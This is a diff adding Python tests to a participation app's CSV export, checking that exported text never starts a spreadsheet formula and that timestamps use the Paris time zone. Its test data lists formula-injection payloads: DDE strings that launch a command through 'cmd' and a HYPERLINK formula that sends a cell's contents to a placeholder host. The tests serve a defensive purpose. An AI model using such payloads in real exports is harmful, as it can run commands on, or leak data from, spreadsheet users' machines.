@@ -265,3 +265,48 @@ def test_agents_seed_statements_from_a_synthesis(om, client, agent_a, org_a):
     assert "Les bancs doivent être à l'ombre." in bodies
     client.post(edit, {"what": "synthesis", "synthesis-source": box.pk})  # twice: no doubles
     assert services.statements_visible(om["process"]).count() == len(bodies)
+
+
+DANGEROUS = [
+    '=HYPERLINK("https://exemple.org/?"&A1;"Cliquez")',
+    "+ de bancs",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _export(client, om):
+    import csv
+
+    data = client.get(url(om, "opinion_export")).content
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return {
+            name: list(csv.DictReader(io.StringIO(archive.read(name).decode(), newline="")))
+            for name in ("comments.csv", "votes.csv")
+        }
+
+
+def test_the_export_never_starts_a_formula(om, client):
+    from ..factories import make_contribution
+
+    for text in DANGEROUS:
+        make_contribution(om["process"], kind="statement", body=text)
+    bodies = [row["comment-body"] for row in _export(client, om)["comments.csv"]]
+    assert bodies == STATEMENTS + ["'" + text for text in DANGEROUS]
+
+
+def test_the_export_dates_in_the_site_time_zone(om, client, citizen):
+    import datetime as dt
+
+    late = dt.datetime(2026, 3, 1, 23, 30, tzinfo=dt.UTC)  # 00:30 on 2 March in Paris
+    statement = om["statements"][0]
+    type(statement).objects.filter(pk=statement.pk).update(created_at=late)
+    services.vote_cast(statement=statement, voter=citizen, value=1)
+    Vote.objects.update(updated_at=late)
+    files = _export(client, om)
+    first = files["comments.csv"][0]
+    assert first["datetime"] == "2026-03-02T00:30:00+01:00"
+    assert int(first["timestamp"]) == int(late.timestamp())
+    assert files["votes.csv"][0]["datetime"] == "2026-03-02T00:30:00+01:00"
